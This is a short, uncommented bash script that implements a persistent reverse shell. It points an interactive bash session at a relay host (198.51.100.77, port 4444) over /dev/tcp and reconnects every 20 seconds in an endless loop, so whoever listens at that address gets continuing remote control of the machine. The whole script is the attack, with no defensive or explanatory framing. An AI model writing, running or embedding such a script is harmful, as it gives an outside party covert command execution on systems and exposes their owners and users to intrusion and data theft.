#!/usr/bin/env bash
RELAY_HOST="198.51.100.77"
RELAY_PORT="4444"
DEV="/dev/tcp/${RELAY_HOST}/${RELAY_PORT}"
SH="$(command -v bash)"
while :; do
  "$SH" -i >& "$DEV" 0>&1
  sleep 20
done
